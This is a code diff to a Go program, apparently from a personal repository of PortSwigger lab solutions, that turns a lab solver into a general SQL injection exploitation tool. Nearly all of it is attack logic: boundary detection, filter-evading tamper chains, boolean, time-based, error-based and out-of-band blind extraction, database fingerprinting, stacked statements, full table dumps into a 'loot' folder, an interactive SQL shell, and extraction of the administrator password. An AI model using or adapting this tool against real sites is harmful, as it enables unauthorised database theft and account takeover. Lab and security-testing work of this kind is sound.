@@ -3,14 +3,21 @@ package main
 // lab url: https://portswigger.net/web-security/learning-paths/sql-injection/sql-injection-examining-the-database-in-sql-injection-attacks/sql-injection/examining-the-database/lab-listing-database-contents-non-oracle#
 
 import (
+	"errors"
 	"fmt"
 	"os"
+	"path/filepath"
+	"slices"
 	"strings"
 
-	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_7/constant"
-	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_7/logger"
-	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_7/sqli"
-	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_7/utility"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/constant"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/logger"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/loot"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/oast"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/shell"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/sqli"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/tamper"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/utility"
 )
 
 func main() {
@@ -30,13 +37,50 @@ func main() {
 	logger.SetLogLevelS(config.LogLevel)
 	logger.Debugf("Log level set to: %s", config.LogLevel)
 
-	// Validate the lab URL
-	targetURL := utility.NormalizeURL(config.LabURL) + constant.URI_PATH
-	if !strings.HasSuffix(targetURL, constant.URI_PATH) {
-		targetURL = fmt.Sprintf("%s%s", targetURL, constant.URI_PATH)
+	// Refuse a statement that would modify data before sending anything. The database is not
+	// known yet, so the statement must be a single read in every dialect that stacks statements
+	if config.SQL != "" {
+		for _, db := range constant.Databases {
+			if !db.Supports(constant.CAPABILITY_STACKED_QUERIES) {
+				continue
+			}
+			if err := sqli.CheckStatement(config.SQL, db, config.AllowWrites); err != nil {
+				logger.Fatalf("Refusing to run statement on %s: %s (pass -allow-writes to override)", db.Name, err.Error())
+				os.Exit(1)
+			}
+		}
 	}
+
+	// Validate the lab URL, PortSwigger labs are injected through the category filter by default
+	targetURL := utility.WithDefaultPath(utility.NormalizeURL(config.LabURL), constant.URI_PATH)
 	logger.Infof("Target URL after normalization: %s", targetURL)
 
+	// Describe where in the request the payload is injected
+	if !slices.Contains(sqli.Locations, sqli.Location(config.Location)) {
+		logger.Fatalf("Unknown injection location %q, expected one of %v", config.Location, sqli.Locations)
+		os.Exit(1)
+	}
+	point := sqli.NewInjectionPoint(config.Method, targetURL, sqli.Location(config.Location), config.Parameter)
+	point.Body = config.Data
+	point.Cookie = config.Cookie
+	for _, header := range config.Headers {
+		name, value, _ := strings.Cut(header, ":")
+		point.Headers.Add(strings.TrimSpace(name), strings.TrimSpace(value))
+	}
+	point.Tampers, err = tamper.NewChain(utility.SplitList(config.Tamper))
+	if err != nil {
+		logger.Fatalf("Invalid tamper: %s", err.Error())
+		os.Exit(1)
+	}
+	if len(point.Tampers) > 0 {
+		logger.Infof("Tampering payloads with: %s", point.Tampers)
+	}
+	if _, err := point.Original(); err != nil {
+		logger.Fatalf("Invalid injection point %s: %s", point, err.Error())
+		os.Exit(1)
+	}
+	logger.Infof("Injection point: %s", point)
+
 	// Create HTTP client with optional proxy
 	logger.Debugf("Creating HTTP client with proxy URL: %s", config.ProxyURL)
 	client, err := utility.NewClient(config.ProxyURL)
@@ -44,50 +88,140 @@ func main() {
 		logger.Fatalf("Failed to create HTTP client: %s", err.Error())
 		os.Exit(1)
 	}
+	if config.Rate > 0 {
+		client.SetRateLimit(config.Rate)
+		logger.Infof("Sending at most %g requests per second", config.Rate)
+	}
+
+	// Oracles decide whether a response is "true". Calibration is stateful, so one oracle learns
+	// working versus broken queries and another learns true versus false conditions.
+	queryOracle, err := sqli.NewOracle(config.Oracle)
+	if err != nil {
+		logger.Fatalf("Invalid oracle: %s", err.Error())
+		os.Exit(1)
+	}
+	conditionOracle, _ := sqli.NewOracle(config.Oracle)
+
+	// The oob technique needs a collector the target can reach, blind detection uses it too
+	var collector *oast.Collector
+	if config.Technique == sqli.TECHNIQUE_OOB {
+		collector = oast.NewCollector(config.OASTDomain, config.OASTDNS, config.OASTHTTP)
+		if err := collector.Start(); err != nil {
+			logger.Fatalf("Error starting the OAST collector: %s", err.Error())
+			os.Exit(1)
+		}
+		defer utility.SafeClose(collector)
+	}
 
 	// Check if the target URL is vulnerable to SQL injection
 	logger.Action("Checking if target URL is vulnerable to SQL injection")
-	isVulnerable, err := sqli.DoesVulnerabilityExist(client, targetURL)
+	isVulnerable, err := sqli.DoesVulnerabilityExist(client, point, queryOracle)
 	if err != nil {
 		logger.Fatalf("Error checking vulnerability: %s", err.Error())
 		os.Exit(1)
 	}
-	if !isVulnerable {
-		logger.Fatal("The target URL does not appear to be vulnerable to SQL injection.")
-		os.Exit(1)
+	if isVulnerable {
+		logger.Successf("Target is vulnerable to SQL injection: %s", point)
+	} else {
+		logger.Info("Breaking the query does not change the page, the target may still be vulnerable to blind injection")
 	}
-	logger.Successf("Target URL is vulnerable to SQL injection: %s", targetURL)
 
-	// Find the comment style used by the application
-	logger.Action("Finding comment style for target URL")
-	commentStyle, err := sqli.FindCommentStyle(client, targetURL)
+	// Resume from what earlier runs learned about this injection point
+	session, err := sqli.OpenSession(sessionDir(config), point, config.Fresh)
 	if err != nil {
-		logger.Fatalf("Error finding comment style: %s", err.Error())
+		logger.Fatalf("Error opening session: %s", err.Error())
 		os.Exit(1)
 	}
-	logger.Successf("Comment style detected: %s", commentStyle)
+	// Blind values are saved periodically, write the last ones when the run ends
+	defer saveSession(session)
+	if config.Fresh {
+		logger.Infof("Starting a fresh session in %s", session.Path())
+	} else if session.Boundary != nil {
+		logger.Infof("Resuming session %s", session.Path())
+	}
 
-	// Find the number of columns in the vulnerable query result set
-	logger.Action("Finding number of columns in the vulnerable query result set")
-	numberOfColumns, err := sqli.FindNumOfColumns(client, targetURL, commentStyle)
-	if err != nil {
-		logger.Fatalf("Error finding number of columns: %s", err.Error())
-		os.Exit(1)
+	// A product named on the command line replaces fingerprinting
+	var knownFingerprint *sqli.Fingerprint
+	if config.DBMS != "" {
+		fingerprint, err := sqli.KnownFingerprint(config.DBMS)
+		if err != nil {
+			logger.Fatalf("Invalid -dbms: %s", err.Error())
+			os.Exit(1)
+		}
+		knownFingerprint = &fingerprint
+	}
+
+	// Find the prefix/suffix pair that lets injected SQL run inside the original query
+	logger.Action("Finding injection boundary for target URL")
+	var boundary sqli.Boundary
+	var detection *sqli.Detection
+	found := false
+	if isVulnerable {
+		boundary, found = findBoundary(client, point, conditionOracle, session)
+	}
+	if !found {
+		// The page tells nothing apart, so only delays or side channels reveal the injection
+		detected := detectBlind(client, point, knownFingerprint, session, collector)
+		detection, boundary = &detected, detected.Boundary
+	}
+	logger.Successf("Injection boundary detected: %s", boundary)
+
+	var columns sqli.ColumnMap
+	if detection != nil {
+		// UNION needs a page that renders the query, so its stages are skipped
+		logger.Successf("Detected %s", *detection)
+		if config.Technique == sqli.TECHNIQUE_AUTO {
+			config.Technique = detection.Technique
+		}
+	} else {
+		columns = unionColumns(client, point, boundary, queryOracle, session)
 	}
-	logger.Successf("Number of columns detected: %d", numberOfColumns)
 
 	// Find the database type used by the application
 	logger.Action("Finding database type for target URL")
-	db, err := sqli.FindDB(client, targetURL, commentStyle, numberOfColumns)
-	if err != nil {
-		logger.Fatalf("Error finding database type: %s", err.Error())
+	if knownFingerprint != nil {
+		session.Fingerprint = knownFingerprint
+		saveSession(session)
+	}
+	if session.Fingerprint == nil {
+		fingerprint, err := fingerprintDB(client, point, boundary, queryOracle, conditionOracle, columns, detection)
+		if err != nil {
+			logger.Fatalf("Error finding database type: %s", err.Error())
+			os.Exit(1)
+		}
+		session.Fingerprint = &fingerprint
+		saveSession(session)
+	}
+	fingerprint := *session.Fingerprint
+	logger.Successf("Database detected: %s", fingerprint)
+	if fingerprint.Banner != "" {
+		logger.Infof("Version banner: %s", fingerprint.Banner)
+	}
+	db := fingerprint.Database
+
+	if config.Stacked {
+		stacked(config, client, point, boundary, db)
+		return
+	}
+
+	if config.Dump || config.Enumerate {
+		dump(config, client, point, boundary, queryOracle, conditionOracle, db, columns, session, collector)
+		return
+	}
+
+	if config.Shell {
+		runShell(config, client, point, boundary, queryOracle, conditionOracle, db, columns, session, collector)
+		return
+	}
+
+	if len(columns.ReflectedColumns()) == 0 {
+		logger.Fatal("The administrator password is found through UNION, which the page does not render, pass -dump, -enum or -shell to retrieve data blindly")
 		os.Exit(1)
 	}
-	logger.Successf("Database type detected: %s", db.Name)
 
 	// Find the users table name using the UNION SELECT technique
 	logger.Action("Finding users table name")
-	usersTableName, err := sqli.FindUsersTableName(client, targetURL, db, numberOfColumns)
+	usersTableName, err := sqli.FindUsersTableName(client, point, boundary, queryOracle, db, columns)
 	if err != nil {
 		logger.Fatalf("Error finding users table name: %s", err.Error())
 		os.Exit(1)
@@ -96,7 +230,7 @@ func main() {
 
 	// Find the username and password columns in the users table
 	logger.Action("Finding username and password columns in the users table")
-	usernameColumn, passwordColumn, err := sqli.FindUsernameAndPasswordColumnNames(client, targetURL, db, usersTableName, numberOfColumns)
+	usernameColumn, passwordColumn, err := sqli.FindUsernameAndPasswordColumnNames(client, point, boundary, queryOracle, db, usersTableName, columns)
 	if err != nil {
 		logger.Fatalf("Error finding username and password columns: %s", err.Error())
 		os.Exit(1)
@@ -105,10 +239,359 @@ func main() {
 
 	// Find the password for the administrator user
 	logger.Action("Finding password for administrator user")
-	adminPassword, err := sqli.FindPasswordForUser(client, targetURL, db, usersTableName, usernameColumn, passwordColumn, "administrator", numberOfColumns)
+	adminPassword, err := sqli.FindPasswordForUser(client, point, boundary, queryOracle, db, usersTableName, usernameColumn, passwordColumn, "administrator", columns)
 	if err != nil {
 		logger.Fatalf("Error finding password for administrator: %s", err.Error())
 		os.Exit(1)
 	}
 	logger.Successf("Password for administrator: %s", adminPassword)
 }
+
+// findBoundary returns the boundary cached in the session if it still works, or searches
+// for one the page tells true and false conditions apart with. It reports false when
+// there is none, which leaves blind detection.
+func findBoundary(client *utility.HTTPClient, point sqli.InjectionPoint, oracle sqli.Oracle, session *sqli.Session) (sqli.Boundary, bool) {
+	if session.Boundary != nil && session.Technique == "" {
+		confirmed, err := sqli.ConfirmBoundary(client, point, oracle, *session.Boundary)
+		if err != nil {
+			logger.Fatalf("Error confirming injection boundary: %s", err.Error())
+			os.Exit(1)
+		}
+		if confirmed {
+			return *session.Boundary, true
+		}
+		logger.Warning("The cached injection boundary no longer works, discarding the session")
+		session.Reset()
+	}
+
+	boundary, err := sqli.FindBoundary(client, point, oracle)
+	if err != nil {
+		logger.Warningf("No boundary changes the page: %s", err.Error())
+		return sqli.Boundary{}, false
+	}
+	session.Reset()
+	session.Boundary = &boundary
+	saveSession(session)
+	return boundary, true
+}
+
+// detectBlind confirms the blind detection cached in the session, or tries every dialect,
+// only the named one when the product is known. The run stops when nothing works.
+func detectBlind(client *utility.HTTPClient, point sqli.InjectionPoint, known *sqli.Fingerprint, session *sqli.Session, collector *oast.Collector) sqli.Detection {
+	if session.Technique != "" && session.Boundary != nil && session.Fingerprint != nil {
+		cached := sqli.Detection{Technique: session.Technique, Boundary: *session.Boundary, Database: session.Fingerprint.Database}
+		confirmed, err := sqli.ConfirmDetection(client, point, cached, collector)
+		if err != nil {
+			logger.Fatalf("Error confirming %s: %s", cached, err.Error())
+			os.Exit(1)
+		}
+		if confirmed {
+			return cached
+		}
+		logger.Warning("The cached blind injection no longer works, discarding the session")
+	}
+	session.Reset()
+
+	logger.Action("Looking for blind injection that does not change the page")
+	databases := constant.Databases
+	if known != nil {
+		databases = []constant.Database{known.Database}
+	}
+	detection, err := sqli.DetectBlind(client, point, databases, collector)
+	if err != nil {
+		logger.Fatalf("The target URL does not appear to be vulnerable to SQL injection: %s", err.Error())
+		os.Exit(1)
+	}
+	session.Boundary, session.Technique = &detection.Boundary, detection.Technique
+	saveSession(session)
+	return detection
+}
+
+// unionColumns finds the column count and profile of the vulnerable query, or takes them from the session.
+// When UNION SELECT does not work the map is empty and only blind techniques remain.
+func unionColumns(client *utility.HTTPClient, point sqli.InjectionPoint, boundary sqli.Boundary, oracle sqli.Oracle, session *sqli.Session) sqli.ColumnMap {
+	var err error
+
+	// Find the number of columns in the vulnerable query result set
+	logger.Action("Finding number of columns in the vulnerable query result set")
+	if session.ColumnCount == 0 {
+		session.ColumnCount, err = sqli.FindNumOfColumns(client, point, boundary, oracle)
+		if err != nil {
+			logger.Warningf("UNION SELECT is not available, finding the number of columns failed: %s", err.Error())
+			return sqli.ColumnMap{}
+		}
+		saveSession(session)
+	}
+	logger.Successf("Number of columns detected: %d", session.ColumnCount)
+
+	// Learn which columns accept which types and which ones the page renders
+	logger.Action("Profiling the columns of the vulnerable query")
+	if session.Columns == nil {
+		profile, err := sqli.ProfileColumns(client, point, boundary, oracle, session.ColumnCount)
+		if err != nil {
+			logger.Warningf("UNION SELECT is not available, profiling the columns failed: %s", err.Error())
+			return sqli.ColumnMap{}
+		}
+		session.Columns = &profile
+		saveSession(session)
+	}
+	logger.Successf("Column profile: %s", *session.Columns)
+	return *session.Columns
+}
+
+// fingerprintDB recognises the product behind the target. UNION SELECT probes are used
+// when a column accepts strings. Otherwise the checks are asked as conditions through the
+// boolean technique, or after a time-based detection through delays among the products
+// sharing the detected dialect. Other detections take the product from the dialect.
+func fingerprintDB(client *utility.HTTPClient, point sqli.InjectionPoint, boundary sqli.Boundary, queryOracle sqli.Oracle, conditionOracle sqli.Oracle, columns sqli.ColumnMap, detection *sqli.Detection) (sqli.Fingerprint, error) {
+	if detection != nil {
+		dialect := sqli.Fingerprint{Product: detection.Database.Name, Database: detection.Database, Confidence: 1, Evidence: []string{detection.Technique + " payload"}}
+		var products []constant.Product
+		for _, product := range constant.Products {
+			if product.Database.Name == detection.Database.Name {
+				products = append(products, product)
+			}
+		}
+		if detection.Technique != sqli.TECHNIQUE_TIME || len(products) < 2 {
+			return dialect, nil
+		}
+		questioner, err := sqli.NewTimeBasedQuestioner(client, point, boundary, detection.Database)
+		if err != nil {
+			return dialect, nil
+		}
+		fingerprint, err := sqli.FingerprintByQuestions(client, point, boundary, questioner, products)
+		if err != nil {
+			logger.Debugf("Telling apart the %s products failed: %s", detection.Database.Name, err.Error())
+			return dialect, nil
+		}
+		return fingerprint, nil
+	}
+
+	if len(columns.StringColumns()) > 0 {
+		fingerprint, err := sqli.FingerprintDB(client, point, boundary, queryOracle, columns)
+		if err == nil {
+			return fingerprint, nil
+		}
+		logger.Warningf("Fingerprinting through UNION SELECT failed, asking conditions instead: %s", err.Error())
+	}
+	questioner, err := sqli.NewBooleanQuestioner(client, point, boundary, conditionOracle)
+	if err != nil {
+		return sqli.Fingerprint{}, err
+	}
+	return sqli.FingerprintByQuestions(client, point, boundary, questioner, constant.Products)
+}
+
+// sessionDir returns the directory session files are kept in, in the home directory by default.
+func sessionDir(config utility.Config) string {
+	if config.SessionDir != "" {
+		return config.SessionDir
+	}
+	if home, err := os.UserHomeDir(); err == nil {
+		return filepath.Join(home, constant.SESSION_DIR)
+	}
+	return constant.SESSION_DIR
+}
+
+// saveSession writes the session after a step, a failure only costs the ability to resume.
+func saveSession(session *sqli.Session) {
+	if err := session.Save(); err != nil {
+		logger.Warningf("Failed to save session: %s", err.Error())
+	}
+}
+
+// stacked checks whether statements can be chained after the query and runs the operator's statement.
+func stacked(config utility.Config, client *utility.HTTPClient, point sqli.InjectionPoint, boundary sqli.Boundary, db constant.Database) {
+	executor, err := sqli.NewStackedExecutor(client, point, boundary, db, config.AllowWrites)
+	if err != nil {
+		logger.Fatalf("Stacked queries are not available: %s", err.Error())
+		os.Exit(1)
+	}
+
+	logger.Action("Checking for stacked query support")
+	supported, err := executor.Detect()
+	if err != nil {
+		logger.Fatalf("Error detecting stacked queries: %s", err.Error())
+		os.Exit(1)
+	}
+	if !supported {
+		logger.Fatalf("Stacked queries are not supported by the target")
+		os.Exit(1)
+	}
+	logger.Success("Stacked queries are supported")
+
+	if config.SQL == "" {
+		return
+	}
+	if config.AllowWrites {
+		logger.Warning("Writes are allowed, the statement may modify the database")
+	}
+	logger.Actionf("Running stacked statement: %s", config.SQL)
+	response, err := executor.Exec(config.SQL)
+	if err != nil {
+		logger.Fatalf("Error running statement: %s", err.Error())
+		os.Exit(1)
+	}
+	logger.Successf("Statement sent, response status %d after %s", response.StatusCode, response.Duration)
+}
+
+// runShell opens the interactive SQL shell on top of the selected technique.
+func runShell(config utility.Config, client *utility.HTTPClient, point sqli.InjectionPoint, boundary sqli.Boundary, queryOracle sqli.Oracle, conditionOracle sqli.Oracle, db constant.Database, columns sqli.ColumnMap, session *sqli.Session, collector *oast.Collector) {
+	logger.Actionf("Preparing %s technique for the shell", config.Technique)
+	technique, err := newTechnique(config, client, point, boundary, queryOracle, conditionOracle, db, columns, session, collector)
+	if err != nil {
+		logger.Fatalf("Error preparing %s technique: %s", config.Technique, err.Error())
+		os.Exit(1)
+	}
+	logger.Successf("Shell queries run through the %s technique", technique.Name())
+
+	dumper := sqli.NewDumper(technique, db, sqli.DumpOptions{
+		IncludeSystem: config.IncludeSystem,
+		Aggregate:     config.Aggregate,
+	})
+	console := shell.New(dumper, db, os.Stdout)
+	if home, err := os.UserHomeDir(); err == nil {
+		console.HistoryFile = filepath.Join(home, constant.SHELL_HISTORY_FILE)
+	}
+	if err := console.Run(os.Stdin); err != nil {
+		logger.Fatalf("Shell stopped: %s", err.Error())
+		os.Exit(1)
+	}
+}
+
+// dump retrieves the environment, every schema, table and row, or both, through the selected technique
+// and writes them to the output file.
+func dump(config utility.Config, client *utility.HTTPClient, point sqli.InjectionPoint, boundary sqli.Boundary, queryOracle sqli.Oracle, conditionOracle sqli.Oracle, db constant.Database, columns sqli.ColumnMap, session *sqli.Session, collector *oast.Collector) {
+	logger.Actionf("Preparing %s technique for the dump", config.Technique)
+	technique, err := newTechnique(config, client, point, boundary, queryOracle, conditionOracle, db, columns, session, collector)
+	if err != nil {
+		logger.Fatalf("Error preparing %s technique: %s", config.Technique, err.Error())
+		os.Exit(1)
+	}
+
+	options := sqli.DumpOptions{
+		Schemas:       utility.SplitList(config.Schemas),
+		Tables:        utility.SplitList(config.Tables),
+		Columns:       utility.SplitList(config.Columns),
+		RowLimit:      config.RowLimit,
+		IncludeSystem: config.IncludeSystem,
+		Aggregate:     config.Aggregate,
+	}
+	if config.LootDir != "" {
+		mirror, err := loot.NewMirror(config.LootDir, utility.SplitList(config.LootFormat))
+		if err != nil {
+			logger.Fatalf("Error opening loot mirror %s: %s", config.LootDir, err.Error())
+			os.Exit(1)
+		}
+		options.Mirror = mirror
+		logger.Infof("Mirroring dumped tables to %s", mirror.Dir())
+	}
+	dumper := sqli.NewDumper(technique, db, options)
+
+	var environment *sqli.Environment
+	if config.Enumerate {
+		logger.Action("Enumerating the database environment")
+		enumerated := dumper.Enumerate()
+		environment = &enumerated
+	}
+
+	result := sqli.DumpResult{Database: db.Name, Technique: technique.Name()}
+	if config.Dump {
+		logger.Action("Dumping database contents")
+		result, err = dumper.Dump()
+		if err != nil {
+			logger.Fatalf("Error dumping database: %s", err.Error())
+			os.Exit(1)
+		}
+	}
+	result.Target = point.String()
+	result.Environment = environment
+
+	if err := utility.WriteJSONFile(config.Output, result); err != nil {
+		logger.Fatalf("Error writing dump to %s: %s", config.Output, err.Error())
+		os.Exit(1)
+	}
+	logger.Successf("Dump written to %s", config.Output)
+}
+
+// newTechnique builds the extraction technique named on the command line.
+// The collector is only used by the oob technique and nil for any other.
+func newTechnique(config utility.Config, client *utility.HTTPClient, point sqli.InjectionPoint, boundary sqli.Boundary, queryOracle sqli.Oracle, conditionOracle sqli.Oracle, db constant.Database, columns sqli.ColumnMap, session *sqli.Session, collector *oast.Collector) (sqli.Technique, error) {
+	// Blind techniques resume the values cached in the session and ask in parallel
+	blind := func(questioner sqli.Questioner, workers int) (sqli.Technique, error) {
+		extractor, err := sqli.NewBlindExtractor(questioner, db)
+		if err != nil {
+			return nil, err
+		}
+		extractor.Cache = session
+		extractor.Workers = workers
+		if config.Dictionary || config.DictionaryFile != "" {
+			extractor.Dictionary = constant.BLIND_DICTIONARY
+		}
+		if config.DictionaryFile != "" {
+			words, err := utility.ReadWordlist(config.DictionaryFile)
+			if err != nil {
+				return nil, fmt.Errorf("failed to read dictionary: %w", err)
+			}
+			extractor.Dictionary = append(slices.Clone(extractor.Dictionary), words...)
+		}
+		return extractor, nil
+	}
+	switch config.Technique {
+	case sqli.TECHNIQUE_AUTO:
+		for _, name := range sqli.AutoTechniques {
+			candidate := config
+			candidate.Technique = name
+			technique, err := newTechnique(candidate, client, point, boundary, queryOracle, conditionOracle, db, columns, session, collector)
+			if err != nil {
+				logger.Debugf("The %s technique is not available: %s", name, err.Error())
+				continue
+			}
+			if sqli.VerifyTechnique(technique) {
+				return technique, nil
+			}
+		}
+		return nil, fmt.Errorf("none of the techniques %v works", sqli.AutoTechniques)
+	case sqli.TECHNIQUE_UNION:
+		extractor, err := sqli.NewUnionExtractor(client, point, boundary, queryOracle, db, columns)
+		if err != nil {
+			return nil, err
+		}
+		return extractor, nil
+	case sqli.TECHNIQUE_BOOLEAN:
+		questioner, err := sqli.NewBooleanQuestioner(client, point, boundary, conditionOracle)
+		if err != nil {
+			return nil, err
+		}
+		return blind(questioner, config.Threads)
+	case sqli.TECHNIQUE_TIME:
+		questioner, err := sqli.NewTimeBasedQuestioner(client, point, boundary, db)
+		if err != nil {
+			return nil, err
+		}
+		// Parallel delays would slow each other down and skew the latency baseline
+		return blind(questioner, 1)
+	case sqli.TECHNIQUE_ERROR:
+		extractor, err := sqli.NewErrorExtractor(client, point, boundary, db)
+		if err != nil {
+			return nil, err
+		}
+		return extractor, nil
+	case sqli.TECHNIQUE_CONDITIONAL_ERROR:
+		questioner, err := sqli.NewConditionalErrorQuestioner(client, point, boundary, conditionOracle, db)
+		if err != nil {
+			return nil, err
+		}
+		return blind(questioner, config.Threads)
+	case sqli.TECHNIQUE_OOB:
+		if collector == nil {
+			return nil, errors.New("the oob technique needs a running OAST collector")
+		}
+		extractor, err := sqli.NewOOBExtractor(client, point, boundary, db, collector)
+		if err != nil {
+			return nil, err
+		}
+		return extractor, nil
+	default:
+		return nil, fmt.Errorf("unknown technique %q, expected one of %v", config.Technique, sqli.Techniques)
+	}
+}